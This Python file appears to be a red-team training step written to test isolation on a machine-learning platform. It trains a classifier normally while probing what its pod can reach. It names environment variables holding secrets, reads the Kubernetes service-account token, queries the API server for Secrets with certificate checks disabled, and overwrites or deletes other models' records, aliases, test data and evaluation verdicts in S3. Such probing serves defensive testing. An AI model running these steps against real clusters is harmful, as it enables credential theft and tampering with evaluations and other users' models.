"""User code that trains honestly and tries, with all that its pod has, what its model's gate and others depend on."""

import json
import os
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from colchis_steps.classifier import build as honest
from colchis_steps.context import Context

TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")


def build(context: Context) -> Any:
    """Attack, leave what came of it where training may write, and return the classifier."""
    flags = dict(word.removeprefix("--").split("=", 1) for word in sys.argv[1:] if "=" in word)
    bucket, _, prefix = flags["store"].removeprefix("s3://").partition("/")
    told = {"token": TOKEN.exists(), "environment": secrets(), "cluster": cluster()}
    told |= attacks(bucket, prefix, flags, context.hyperparameters["victim"])
    put(bucket, f"{prefix}/runs/{flags['run']}/training/attack.json", json.dumps(told).encode())
    return honest(context)


def secrets() -> list[str]:
    """Name the variables that hold a key."""
    return [name for name in os.environ if "SECRET" in name or "ACCESS_KEY" in name or "TOKEN" in name]


def cluster() -> str:
    """Ask the API server for the namespace's Secrets, with the token if there is one."""
    host = os.environ.get("KUBERNETES_SERVICE_HOST", "")
    token = TOKEN.read_text() if TOKEN.exists() else ""
    request = urllib.request.Request(
        f"https://{host}/api/v1/secrets", headers={"Authorization": f"Bearer {token}"} if token else {}
    )
    import ssl

    try:
        with urllib.request.urlopen(request, timeout=10, context=ssl._create_unverified_context()) as answer:  # noqa: S323
            return f"answered {answer.status}"
    except urllib.error.HTTPError as error:
        return f"refused {error.code}"
    except OSError as error:
        return f"not reached: {error}"


def put(bucket: str, key: str, content: bytes) -> str:
    """Write an object with the pod's key; return what the server said."""
    import boto3
    from botocore.exceptions import BotoCoreError, ClientError

    try:
        boto3.session.Session().client("s3").put_object(Bucket=bucket, Key=key, Body=content)
    except ClientError as error:
        return str(error.response["Error"]["Code"])
    except BotoCoreError as error:
        return str(error)
    return "written"


def delete(bucket: str, key: str) -> str:
    """Remove an object with the pod's key; return what the server said."""
    import boto3
    from botocore.exceptions import ClientError

    try:
        boto3.session.Session().client("s3").delete_object(Bucket=bucket, Key=key)
    except ClientError as error:
        return str(error.response["Error"]["Code"])
    return "removed"


def attacks(bucket: str, prefix: str, flags: dict[str, str], victim: str) -> dict[str, str]:
    """Overwrite the test split, another model's record, alias and version, a blob, the run's own verdict, and code."""
    data = flags["data"].removeprefix(f"s3://{bucket}/")
    targets = {
        "test split": f"{data}/test-00000.npz",
        "data manifest": f"{data}/manifest.json",
        "record": f"{prefix}/models/{victim}/1/record.json",
        "manifest": f"{prefix}/models/{victim}/1/manifest.json",
        "statement": f"{prefix}/models/{victim}/1/statement.json",
        "alias": f"{prefix}/models/{victim}/aliases/stable.json",
        "blob": f"{prefix}/blobs/sha256/{'0' * 64}",
        "evaluation": f"{prefix}/runs/{flags['run']}/evaluate.json",
        "golden rows": f"{prefix}/runs/{flags['run']}/golden.json",
        "code": f"{prefix}/code/{'0' * 64}.zip",
        "requests": f"{prefix}/requests/{victim}/1/2026-01-01/x.json",
    }
    told = {name: put(bucket, key, b"attack") for name, key in targets.items()}
    return told | {f"no {name}": delete(bucket, targets[name]) for name in ("test split", "record", "alias")}
